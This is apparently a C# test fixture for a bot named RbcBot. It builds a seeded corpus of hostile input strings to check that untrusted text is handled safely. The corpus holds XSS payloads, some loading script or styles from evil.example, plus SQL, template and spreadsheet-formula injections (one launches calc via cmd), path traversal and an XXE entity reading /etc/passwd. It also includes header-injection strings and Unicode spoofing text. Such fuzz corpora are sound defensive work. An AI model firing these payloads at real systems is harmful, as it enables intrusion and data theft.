namespace RbcBot.Tests.Given;

/// <summary>What somebody writes who wants to run something, to break a page, or to be taken for another.</summary>
static class HostileTexts
{
    static readonly string[] Bodies =
    [
        "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<form action=javascript:alert(1)><input type=submit autofocus>",
        "<input onfocus=alert(1) autofocus>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example/x)}</style>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<template><script>alert(1)</script></template>", "<marquee onstart=alert(1)>", "<x onclick=alert(1) style=\"position:fixed;inset:0\">x",
        "<button formaction=javascript:alert(1) autofocus>x", "<select onfocus=alert(1) autofocus>", "<textarea onfocus=alert(1) autofocus>", "<keygen onfocus=alert(1) autofocus>", "<isindex type=image src=1 onerror=alert(1)>", "<img src=1 href=1 onerror=\"javascript:alert(1)\">",
    ];

    // Out of an attribute, a text, a title, a script, a comment, a table.
    static readonly string[] Ways = ["", "\">", "'>", "</textarea>", "</title>", "</script>", "-->", "</td></table>", "]]>", "</bdi>"];

    static readonly string[] Others =
    [
        "javascript:alert(1)", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0}", "{0:X}", "{name}", "%n%n%s%s", "@{alert(1)}", "@Html.Raw(1)", "*bold* _it_ [x](javascript:alert(1)) `code` ~s~ >q #h +p -m =e |t {b} .d !e", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;", "\\u003cscript\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "＜script＞alert(1)＜/script＞", "=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "\"=1+1", " =1+1", "=HYPERLINK(\"//evil.example\")",
        "' OR 1=1 --", "'; DROP TABLE people; --", "1; SELECT pg_sleep(9)", "$where: 1", "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd\0.png", "a\r\nSet-Cookie: rbc=1", "a%0d%0aLocation: //evil.example", "\u202Egpj.exe", "a\u200Bb\u200Dc\uFEFFd",
        "\u2066\u2067\u2068x", "\u0007\u001b[31mred\u001b[0m", "\0\0\0", "\uFFFF\uFFFE", "Z̸̢͓a̴͖͝l̶̦͑g̷̨̈́o̵", "😀👩\u200D👩\u200D👧\u200D👦🏿", "ﷺ﷽", "İıſK", "true", "null", "NaN", "1e999", "-0", "99999999999999999999", "2026-02-30", "{\"id\":1}", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "\uD83D", "   ", "\n\n\n", "",
    ];

    /// <summary>Markup that would run or change the page: 300 ways.</summary>
    public static IReadOnlyList<string> Markup { get; } = [.. Ways.SelectMany(way => Bodies.Select(body => way + body))];

    public static IReadOnlyList<string> All { get; } = [.. Markup, .. Others];

    /// <summary>So many, the same for a seed: first each as it is, then put together, cut, doubled and disguised.</summary>
    public static IEnumerable<string> Many(int count, int seed)
    {
        var chance = new Random(seed);
        return All.Concat(Enumerable.Repeat("", int.MaxValue - All.Count).Select(_ => Disguised(chance))).Take(count);
    }

    static string Disguised(Random chance)
    {
        var (one, other) = (All[chance.Next(All.Count)], All[chance.Next(All.Count)]);
        return chance.Next(7) switch
        {
            0 => one + other,
            1 => one.Insert(chance.Next(one.Length + 1), other),
            2 => one[..chance.Next(one.Length + 1)],
            3 => string.Concat(one.Select(letter => chance.Next(2) == 0 ? char.ToUpperInvariant(letter) : char.ToLowerInvariant(letter))),
            4 => one.Replace(" ", "/", StringComparison.Ordinal) + (char)chance.Next(0x20),
            5 => string.Concat(one.Select(letter => chance.Next(6) == 0 ? $"{letter}\u200B" : $"{letter}")),
            _ => string.Concat(Enumerable.Repeat(one, chance.Next(1, 12))),
        };
    }
}
